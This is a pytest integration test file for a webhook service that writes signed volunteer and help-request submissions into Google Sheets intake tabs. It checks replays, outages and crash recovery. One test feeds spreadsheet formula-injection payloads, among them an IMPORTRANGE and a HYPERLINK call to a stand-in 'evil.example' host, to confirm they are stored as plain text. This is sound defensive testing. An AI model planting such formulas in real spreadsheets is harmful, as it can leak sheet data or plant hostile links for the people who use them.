"""From acknowledgement to intake tab: real gspread over loopback against the local Sheets server.

Nothing acknowledged is lost or doubled: not on a replay, not in a Google
outage, not when the process dies between append and mark, not on SIGKILL.
"""

from __future__ import annotations

import json
import re
import signal
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest
import requests

from desk_db import open_database
from desk_db.journal import Journal
from sheets_schema.errors import SheetsUnavailable
from sheets_schema.layout import init_spreadsheet
from sheets_schema.tabs import TABS, tab
from sheets_schema.workbook import open_local
from webhooks import create_app
from webhooks.flusher import WritePace, drain, flush_once
from webhooks.signature import sign

from .conftest import FAST_RETRY
from .desk_process import start_desk

DATA = Path(__file__).parent / "data" / "intake"
SECRET = "test-secret-not-for-production"


def payload(name: str, **changes) -> dict:
    return {**json.loads((DATA / name).read_text()), **changes}


def post(client, body: dict):
    raw = json.dumps(body).encode()
    return client.post("/api/v1/submissions", data=raw, content_type="application/json",
                       headers={"X-Helpt-Signature": sign(SECRET, raw)})


@pytest.fixture
def desk(workbook, tmp_path):
    """A fresh spreadsheet with every tab, and the web app whose journal feeds it."""
    init_spreadsheet(workbook, TABS)
    app = create_app({"TESTING": True, "DATA_DIR": str(tmp_path), "WEBHOOK_SECRET": SECRET})
    return app.test_client(), app.extensions["helpt.journal"], workbook


def fast_pace() -> WritePace:
    return WritePace(6000)


def intake_rows(workbook, tab_id: str) -> list[dict[str, str]]:
    return workbook.read([tab(tab_id)])[tab_id].records()


def test_a_signed_submission_lands_in_its_intake_tab_exactly_once(desk):
    client, journal, workbook = desk
    reply = post(client, payload("offer_nl.json", submission_id="web-1"))
    assert reply.status_code == 202
    assert drain(journal, workbook, fast_pace()).appended == 1
    assert drain(journal, workbook, fast_pace()).appended == 0
    [row] = intake_rows(workbook, "intake_offer_nl")
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", row.pop("timestamp"))
    assert row == {
        "full_name": "An Peeters", "phone": "+32470123456", "email": "an.peeters@example.be",
        "street": "", "postcode": "3010", "languages": "Nederlands, Engels, Frans",
        "tasks": "Boodschappen doen, Apotheek, De hond uitlaten", "transport": "Fiets, Bakfiets",
        "availability": "", "profile_ok": "Ja", "consent_privacy": "Ja", "consent_partners": "Ja",
        "details": "", "submission_id": "web-1", "channel": "website", "entered_by": "",
    }
    assert journal.counts() == {"pending": 0, "written": 1, "confirmed": 0}


def test_a_replay_with_the_same_id_is_a_no_op_before_and_after_the_flush(desk):
    client, journal, workbook = desk
    body = payload("request_fr.json", submission_id="call-7")
    assert post(client, body).status_code == 202
    assert post(client, body).status_code == 200
    drain(journal, workbook, fast_pace())
    assert post(client, body).status_code == 200
    drain(journal, workbook, fast_pace())
    assert [r["submission_id"] for r in intake_rows(workbook, "intake_request_fr")] == ["call-7"]


@pytest.mark.parametrize("text", ["=IMPORTRANGE(\"https://evil.example/x\", \"A1:Z\")",
                                  "=1+2", "+1+1", "-1+1", "@SUM(1,2)", "=HYPERLINK(\"https://evil.example\")"])
def test_formula_looking_values_are_stored_as_text(desk, text):
    client, journal, workbook = desk
    answers = {**payload("request_fr.json")["answers"], "street": text[:150], "details": text}
    assert post(client, payload("request_fr.json", answers=answers)).status_code == 202
    drain(journal, workbook, fast_pace())
    [row] = intake_rows(workbook, "intake_request_fr")
    assert (row["street"], row["details"]) == (text, text)
    sheet = workbook.read([tab("intake_request_fr")])["intake_request_fr"]
    [[[value]]] = workbook.values([sheet.cell(2, "details")], render="UNFORMATTED_VALUE")
    assert value == text  # a formula would come back as its result


def test_bad_input_leaves_no_row(desk):
    client, journal, workbook = desk
    bad = payload("request_fr.json")
    bad["answers"]["phone"] = "12345"
    assert post(client, bad).status_code == 400
    assert drain(journal, workbook, fast_pace()).appended == 0
    assert intake_rows(workbook, "intake_request_fr") == []


def test_a_google_outage_loses_nothing_and_duplicates_nothing_once_it_recovers(desk, server):
    client, journal, workbook = desk
    ids = [f"o-{n}" for n in range(12)]
    for n, sid in enumerate(ids):
        name = "offer_nl.json" if n % 2 else "request_fr.json"
        assert post(client, payload(name, submission_id=sid)).status_code == 202
    server.faults.update({"outage_code": 503})
    with pytest.raises(SheetsUnavailable):
        flush_once(journal, workbook, fast_pace())
    assert journal.counts()["pending"] == 12
    # Half-way recovery: the API flaps, failing every other request, then comes back.
    server.faults.update({"outage_code": None, "rate": 0.5, "codes": [503], "seed": 7})
    for _ in range(20):
        try:
            drain(journal, workbook, fast_pace())
            break
        except SheetsUnavailable:  # what the flusher's loop does: try again
            continue
    server.faults.clear()
    drain(journal, workbook, fast_pace())
    rows = intake_rows(workbook, "intake_offer_nl") + intake_rows(workbook, "intake_request_fr")
    assert sorted(r["submission_id"] for r in rows) == sorted(ids)
    assert journal.counts() == {"pending": 0, "written": 12, "confirmed": 0}


class _DiesBeforeMarking(Journal):
    """A journal whose process 'dies' right after the sheet confirmed the append."""

    def mark_written(self, submission_ids, written_at):
        raise SystemExit("killed between append and mark")


def test_a_crash_between_append_and_mark_never_makes_a_second_row(desk):
    client, journal, workbook = desk
    for sid in ("c-1", "c-2"):
        assert post(client, payload("offer_nl.json", submission_id=sid)).status_code == 202
    dying = _DiesBeforeMarking(journal.database)
    with pytest.raises(SystemExit):
        flush_once(dying, workbook, fast_pace())
    assert journal.counts()["pending"] == 2  # appended, but never marked
    report = drain(journal, workbook, fast_pace())
    assert (report.appended, report.already_there, report.write_calls) == (0, 2, 0)
    assert [r["submission_id"] for r in intake_rows(workbook, "intake_offer_nl")] == ["c-1", "c-2"]


def _start_desk(tmp_path: Path, server, title: str) -> tuple[subprocess.Popen, str]:
    return start_desk([sys.executable, "-m", "helpt.cli", "serve"], tmp_path, {
        "HELPT_DATA_DIR": str(tmp_path / "data"), "HELPT_PORT": "0", "HELPT_SHEETS_URL": server.url,
        "HELPT_SHEETS_TOKEN": server.token,
        "HELPT_SPREADSHEET_TITLE": title, "HELPT_WEBHOOK_SECRET": SECRET, "HELPT_SHEETS_ATTEMPTS": "1"})


def test_sigkill_between_acknowledge_and_flush_loses_nothing_after_restart(tmp_path, server):
    title = f"kill-{uuid.uuid4().hex[:8]}"
    desk, url = _start_desk(tmp_path, server, title)
    try:
        server.faults.update({"outage_code": 503})  # the flusher cannot write: acknowledged only
        ids = [f"k-{n}" for n in range(20)]
        for sid in ids:
            raw = json.dumps(payload("offer_nl.json", submission_id=sid)).encode()
            reply = requests.post(url + "api/v1/submissions", data=raw, timeout=10, headers={
                "Content-Type": "application/json", "X-Helpt-Signature": sign(SECRET, raw)})
            assert reply.status_code == 202
    finally:
        desk.send_signal(signal.SIGKILL)
        desk.wait(timeout=30)
    server.faults.clear()
    restarted, _ = _start_desk(tmp_path, server, title)  # its flusher drains what the dead one held
    try:
        workbook = open_local(server.url, token=server.token, title=title, retry=FAST_RETRY)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            rows = intake_rows(workbook, "intake_offer_nl")
            if len(rows) >= len(ids):
                break
        assert sorted(r["submission_id"] for r in rows) == sorted(ids)
    finally:
        restarted.send_signal(signal.SIGTERM)
        restarted.wait(timeout=30)
    counts = Journal(open_database("", tmp_path / "data")).counts()
    # Every one written; the desk's first sync may have read them back (confirmed) before the stop.
    assert counts["pending"] == 0 and counts["written"] + counts["confirmed"] == 20
